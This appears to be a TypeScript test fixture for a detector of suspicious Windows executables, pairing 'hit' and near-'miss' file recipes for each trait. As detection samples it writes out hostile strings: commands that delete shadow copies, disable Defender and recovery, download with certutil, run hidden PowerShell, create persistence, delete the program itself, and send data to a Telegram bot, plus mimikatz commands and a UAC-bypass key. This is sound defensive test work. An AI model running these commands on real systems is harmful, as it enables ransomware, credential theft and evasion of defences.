// Harmless files that show one trait each, and files that nearly show it: the imports and texts tell a story, the code
// returns at once.
import type { PeRecipe } from './pe-recipe.ts'

interface Trait {
  readonly hits: Readonly<Record<string, PeRecipe>>
  readonly misses: Readonly<Record<string, PeRecipe>>
}

const KERNEL = 'KERNEL32.dll'
const noise = (bytes: number): Uint8Array => {
  // A fixed sequence with an entropy near eight bits: what packed code looks like.
  const out = new Uint8Array(bytes)
  let state = 0x12345678
  for (let at = 0; at < bytes; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    out[at] = state >>> 24
  }
  return out
}
const texts = (...strings: readonly string[]): PeRecipe => ({ strings })
const calls = (...names: readonly string[]): PeRecipe => ({ imports: { [KERNEL]: names } })

export const PE_TRAITS: Readonly<Record<string, Trait>> = {
  pe_writable_code_section: {
    hits: { 'code may be written': { codeCharacteristics: 0xe0000020 } },
    misses: { 'code is only read and executed': { codeCharacteristics: 0x60000020 } },
  },
  pe_packed_code: {
    hits: { 'code of high entropy': { code: noise(16_384) } },
    misses: {
      'the same in a data section': { sections: [{ name: '.data', data: noise(16_384) }] },
      'with the names of a known packer': { code: noise(16_384), sections: [{ name: 'UPX1', data: noise(64) }] },
    },
  },
  pe_known_packer: {
    hits: {
      'sections of UPX': {
        sections: [
          { name: 'UPX0', data: new Uint8Array(8) },
          { name: 'UPX1', data: new Uint8Array(8) },
        ],
      },
    },
    misses: { 'a section called UPXdata by chance': { sections: [{ name: 'myUPX', data: new Uint8Array(8) }] } },
  },
  pe_protector: {
    hits: {
      VMProtect: { sections: [{ name: '.vmp0', data: new Uint8Array(8) }] },
      Themida: { sections: [{ name: '.themida', data: new Uint8Array(8) }] },
    },
    misses: {
      'a section .vmdata': { sections: [{ name: '.vmdata', data: new Uint8Array(8) }] },
      'ordinary sections': { sections: [{ name: '.data', data: new Uint8Array(8) }] },
    },
  },
  pe_entry_point_outside_code: {
    hits: {
      'in a data section': { strings: ['x'.repeat(100)], entryPointRva: 0x2000 },
      'in no section': { entryPointRva: 0x900000 },
    },
    misses: { 'in the code': { entryPointRva: 0x1000 }, 'no entry point at all': { entryPointRva: 0, dll: true } },
  },
  pe_garbled_section_names: {
    hits: { 'control characters': { sections: [{ name: '\x01\x02\x90', data: new Uint8Array(8) }] } },
    misses: { 'unusual but readable': { sections: [{ name: '.qtmetad', data: new Uint8Array(8) }] } },
  },
  pe_almost_no_imports: {
    hits: { 'only the two that find the rest': calls('LoadLibraryA', 'GetProcAddress') },
    misses: {
      'the two among others': calls(
        'LoadLibraryA',
        'GetProcAddress',
        'CreateFileW',
        'ReadFile',
        'WriteFile',
        'CloseHandle',
        'ExitProcess',
      ),
    },
  },
  pe_forged_rich_header: {
    hits: { 'entries that do not add up': { rich: 'forged' } },
    misses: { 'entries that do': { rich: 'valid' }, none: {} },
  },
  pe_bloated: {
    hits: { '31 MiB of zeros behind it': { overlay: new Uint8Array(31 * 1024 * 1024) } },
    misses: { '1 MiB of zeros behind it': { overlay: new Uint8Array(1024 * 1024) } },
  },
  pe_hidden_overlay: {
    hits: { 'random data behind it': { overlay: noise(40_000) } },
    misses: {
      'text behind it': { overlay: Buffer.from('help text\n'.repeat(4_000)) },
      'a few bytes behind it': { overlay: noise(500) },
    },
  },
  pe_carries_programs: {
    hits: { 'a program as a resource': { resources: { PAYLOAD: Buffer.from([0]) }, carried: 'program' } },
    misses: {
      'a picture as a resource': {
        resources: { PICTURE: Buffer.from('\x89PNG\r\n\x1a\n'.padEnd(200, 'x'), 'latin1') },
      },
    },
  },
  pe_telling_symbol_path: {
    hits: {
      'a keylogger by name': { pdbPath: 'C:\\Users\\x\\source\\Keylogger\\Release\\a.pdb' },
      'a ransomware by name': { pdbPath: 'D:\\my ransomware\\a.pdb' },
    },
    misses: {
      'an honest project': { pdbPath: 'C:\\build\\calculator\\calc.pdb' },
      'a word that holds one': { pdbPath: 'C:\\build\\Decryptor-tools\\hook.pdb' },
    },
  },
  pe_false_microsoft_file: {
    hits: { 'claims Microsoft': { version: { CompanyName: 'Microsoft Corporation' }, linkerMajor: 2 } },
    misses: {
      'another company': { version: { CompanyName: 'Example Works' }, linkerMajor: 2 },
      'built by the linker of Visual Studio': { version: { CompanyName: 'Microsoft Corporation' } },
    },
  },
  pe_asks_for_administrator: {
    hits: { 'says so in its manifest': { manifest: '<requestedExecutionLevel level="requireAdministrator"/>' } },
    misses: { 'runs as the user': { manifest: '<requestedExecutionLevel level="asInvoker"/>' } },
  },
  pe_injects_into_processes: {
    hits: {
      'a remote thread': calls('OpenProcess', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'),
      'an asynchronous call': calls('VirtualAllocEx', 'WriteProcessMemory', 'QueueUserAPC'),
      'names only, found at run time': texts('VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'),
    },
    misses: {
      'reads another process': calls('OpenProcess', 'ReadProcessMemory'),
      'a thread of its own': calls('VirtualAlloc', 'CreateThread'),
      'the library that offers them': {
        exports: { library: 'kernel32.dll', names: ['WriteProcessMemory'] },
        ...texts('VirtualAllocEx', 'CreateRemoteThread'),
      },
    },
  },
  pe_hollows_processes: {
    hits: {
      'all steps': {
        imports: {
          [KERNEL]: ['CreateProcessW', 'WriteProcessMemory', 'SetThreadContext', 'ResumeThread'],
          'ntdll.dll': ['NtUnmapViewOfSection'],
        },
      },
    },
    misses: {
      'without the unmapping': calls('CreateProcessW', 'WriteProcessMemory', 'SetThreadContext', 'ResumeThread'),
    },
  },
  pe_logs_keystrokes: {
    hits: {
      'a hook and key names': {
        imports: { 'USER32.dll': ['SetWindowsHookExW'] },
        strings: ['[BACKSPACE]', '[CapsLock]'],
      },
    },
    misses: { 'a hook alone': { imports: { 'USER32.dll': ['SetWindowsHookExW'] } } },
  },
  pe_spies_on_the_user: {
    hits: {
      'keyboard, screen, clipboard, network': {
        imports: {
          'USER32.dll': ['GetAsyncKeyState', 'GetDC', 'GetClipboardData'],
          'GDI32.dll': ['BitBlt'],
          'WS2_32.dll': [19],
        },
      },
    },
    misses: {
      'without the network': {
        imports: { 'USER32.dll': ['GetAsyncKeyState', 'GetDC', 'GetClipboardData'], 'GDI32.dll': ['BitBlt'] },
      },
    },
  },
  pe_reads_browser_passwords: {
    hits: {
      'files of two browsers': texts('\\Google\\Chrome\\User Data\\', '\\Login Data', '\\Local State', 'logins.json'),
    },
    misses: { 'a path of one browser': texts('\\Google\\Chrome\\User Data\\') },
  },
  pe_reads_wallets: {
    hits: { 'two wallets': texts('wallet.dat', 'exodus.wallet') },
    misses: { 'one wallet, the program of which this may be': texts('wallet.dat') },
  },
  pe_reads_account_stores: {
    hits: { 'chat and file transfer': texts('Telegram Desktop\\tdata', 'FileZilla\\recentservers.xml') },
    misses: { 'one of them': texts('FileZilla\\recentservers.xml') },
  },
  pe_dumps_lsass: {
    hits: {
      'imports the dump and names the process': {
        imports: { 'dbghelp.dll': ['MiniDumpWriteDump'] },
        strings: ['lsass.exe'],
      },
    },
    misses: { 'writes dumps of its own crashes': { imports: { 'dbghelp.dll': ['MiniDumpWriteDump'] } } },
  },
  pe_credential_tool: {
    hits: { 'two commands': texts('sekurlsa::logonpasswords', 'lsadump::sam') },
    misses: { 'the tool is mentioned': texts('detects mimikatz') },
  },
  pe_reflective_loader: {
    hits: { 'exports the loader': { dll: true, exports: { library: 'a.dll', names: ['_ReflectiveLoader@4'] } } },
    misses: { 'a name that is longer': { dll: true, exports: { library: 'a.dll', names: ['ReflectiveLoaderTests'] } } },
  },
  pe_starts_with_windows: {
    hits: {
      'writes the Run key': {
        imports: { 'ADVAPI32.dll': ['RegSetValueExW'] },
        wideStrings: ['Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
      },
    },
    misses: {
      'reads the Run key': {
        imports: { 'ADVAPI32.dll': ['RegQueryValueExW'] },
        wideStrings: ['Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
      },
    },
  },
  pe_creates_scheduled_task: {
    hits: { 'the command': texts('schtasks /create /tn updater /tr a.exe /sc onlogon') },
    misses: { 'a query': texts('schtasks /query') },
  },
  pe_installs_service: {
    hits: { 'creates a service': { imports: { 'ADVAPI32.dll': ['OpenSCManagerW', 'CreateServiceW'] } } },
    misses: { 'asks about services': { imports: { 'ADVAPI32.dll': ['OpenSCManagerW', 'QueryServiceStatus'] } } },
  },
  pe_deletes_backups: {
    hits: {
      'shadow copies': texts('vssadmin.exe Delete Shadows /all /quiet'),
      'recovery, in UTF-16': { wideStrings: ['bcdedit /set {default} recoveryenabled No'] },
    },
    misses: {
      'lists shadow copies': texts('vssadmin list shadows'),
      'has shadows on its windows': texts('delete shadow'),
    },
  },
  pe_ransom_note: {
    hits: { 'two phrases': texts('All your files are gone. Your files have been encrypted!', 'How to decrypt') },
    misses: { 'one phrase': texts('Enter the decryption key') },
  },
  pe_ransomware: {
    hits: {
      'all of it': {
        imports: {
          [KERNEL]: ['FindFirstFileW', 'FindNextFileW'],
          'ADVAPI32.dll': ['CryptEncrypt', 'CryptAcquireContextW'],
        },
        strings: ['vssadmin delete shadows /all', 'Your files have been encrypted'],
      },
    },
    misses: {
      'a backup program': {
        imports: { [KERNEL]: ['FindFirstFileW'], 'ADVAPI32.dll': ['CryptEncrypt'] },
        strings: ['vssadmin delete shadows /for=C:'],
      },
    },
  },
  pe_turns_security_off: {
    hits: { 'a preference': texts('Set-MpPreference -DisableRealtimeMonitoring $true') },
    misses: { 'asks for the state': texts('Get-MpComputerStatus') },
  },
  pe_blinds_script_scanning: {
    hits: {
      'names both and can patch': {
        imports: { [KERNEL]: ['VirtualProtect', 'GetProcAddress'] },
        strings: ['AmsiScanBuffer', 'EtwEventWrite'],
      },
    },
    misses: {
      'calls the scanner as it should be': {
        imports: { [KERNEL]: ['VirtualProtect'], 'amsi.dll': ['AmsiScanBuffer'] },
      },
    },
  },
  pe_bypasses_account_control: {
    hits: { 'the key and the host': texts('Software\\Classes\\ms-settings\\shell\\open\\command', 'fodhelper.exe') },
    misses: { 'the host alone': texts('fodhelper.exe') },
  },
  pe_looks_for_sandboxes: {
    hits: { 'three makes': texts('VBoxGuest', 'vmtoolsd.exe', 'qemu-ga.exe') },
    misses: { 'one make, at length': texts('vmtoolsd.exe', 'vmwaretray.exe', 'VMware Tools') },
  },
  pe_looks_for_analysis_tools: {
    hits: { 'four tools': texts('wireshark.exe', 'ollydbg.exe', 'x64dbg.exe', 'procmon.exe') },
    misses: { 'three tools': texts('wireshark.exe', 'ollydbg.exe', 'x64dbg.exe') },
  },
  pe_anti_debugging: {
    hits: {
      'two ways': { imports: { [KERNEL]: ['CheckRemoteDebuggerPresent'], 'ntdll.dll': ['NtQueryInformationProcess'] } },
    },
    misses: { 'what every compiler writes': calls('IsDebuggerPresent', 'OutputDebugStringW') },
  },
  pe_runs_hidden_powershell: {
    hits: {
      'hidden and past the policy': texts('powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1'),
    },
    misses: { 'names the program': texts('powershell.exe -File a.ps1') },
  },
  pe_runs_system_binaries_for_download: {
    hits: { certutil: texts('certutil -urlcache -split -f http://example.com/a a.exe') },
    misses: { 'certutil for a hash': texts('certutil -hashfile a.exe SHA256') },
  },
  pe_deletes_itself: {
    hits: { 'waits by ping': texts('cmd.exe /c ping 127.0.0.1 -n 3 > nul & del "%s"') },
    misses: { pings: texts('ping example.com') },
  },
  pe_talks_to_public_service: {
    hits: { 'a bot': texts('https://api.telegram.org/bot123456:ABC/sendDocument') },
    misses: { 'a link to a chat': texts('https://t.me/example', 'https://discord.com/invite/example') },
  },
  pe_uses_dynamic_names: {
    hits: { 'dynamic DNS': texts('example.duckdns.org') },
    misses: { 'an ordinary name': texts('example.org') },
  },
  pe_looks_up_own_address: {
    hits: { 'asks a service': texts('http://api.ipify.org') },
    misses: { 'mentions addresses': texts('Your IP address is %s') },
  },
  pe_downloads_and_runs: {
    hits: { 'two calls': { imports: { 'urlmon.dll': ['URLDownloadToFileW'], 'SHELL32.dll': ['ShellExecuteW'] } } },
    misses: { 'downloads only': { imports: { 'urlmon.dll': ['URLDownloadToFileW'] } } },
  },
  pe_mines_cryptocurrency: {
    hits: { 'speaks to a pool': texts('stratum+tcp://pool.example:3333', 'donate-level', 'cryptonight') },
    misses: { 'names an algorithm': texts('randomx', 'cryptonight') },
  },
  pe_runs_code_by_callback: {
    hits: {
      'fetches and has it called': {
        imports: { 'KERNEL32.dll': ['VirtualAlloc', 'EnumSystemLocalesA'], 'WININET.dll': ['InternetReadFile'] },
        strings: ['http://203.0.113.150/a.bin'],
      },
    },
    misses: {
      'asks for languages': {
        imports: { 'KERNEL32.dll': ['VirtualAlloc', 'EnumSystemLocalesA'], 'WININET.dll': ['InternetReadFile'] },
        strings: ['https://update.example.com/a.bin'],
      },
    },
  },
  pe_driver_ends_security: {
    hits: {
      'a list and the end': {
        subsystem: 1,
        imports: { 'ntoskrnl.exe': ['ZwTerminateProcess', 'PsLookupProcessByProcessId'] },
        ...texts('MsMpEng.exe', 'ekrn.exe', 'avp.exe'),
      },
    },
    misses: {
      'no list': { subsystem: 1, imports: { 'ntoskrnl.exe': ['ZwTerminateProcess', 'PsLookupProcessByProcessId'] } },
    },
  },
  pe_driver_injects_into_processes: {
    hits: {
      'takes memory and queues a call': {
        subsystem: 1,
        imports: {
          'ntoskrnl.exe': ['KeInitializeApc', 'KeInsertQueueApc', 'KeStackAttachProcess', 'ZwAllocateVirtualMemory'],
        },
      },
    },
    misses: {
      'queues a call of its own': {
        subsystem: 1,
        imports: { 'ntoskrnl.exe': ['KeInitializeApc', 'KeInsertQueueApc'] },
      },
    },
  },
  pe_driver_opens_physical_memory: {
    hits: {
      'maps it behind an open device': {
        subsystem: 1,
        imports: { 'ntoskrnl.exe': ['IoCreateDevice', 'MmMapIoSpace'] },
      },
    },
    misses: {
      'a device with an access list': {
        subsystem: 1,
        imports: { 'ntoskrnl.exe': ['IoCreateDevice', 'IoCreateDeviceSecure', 'MmMapIoSpace'] },
      },
    },
  },
}
